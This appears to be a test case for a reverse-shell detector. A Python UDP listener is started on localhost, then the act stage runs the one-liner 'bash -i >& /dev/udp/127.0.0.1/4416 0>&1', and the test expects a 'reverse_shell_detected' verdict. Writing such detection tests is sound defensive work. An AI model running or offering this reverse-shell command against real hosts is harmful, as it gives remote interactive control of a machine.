# R16: bash on a UDP socket
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~over a UDP socket at

#: prepare
. lib/peers.sh
python3 -c '
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 4416)); time.sleep(600)' > /dev/null 2>&1 &
kept $!
await 'grep -q :1140 /proc/net/udp'
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/udp/127.0.0.1/4416 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1'
seen; kill -9 $shell
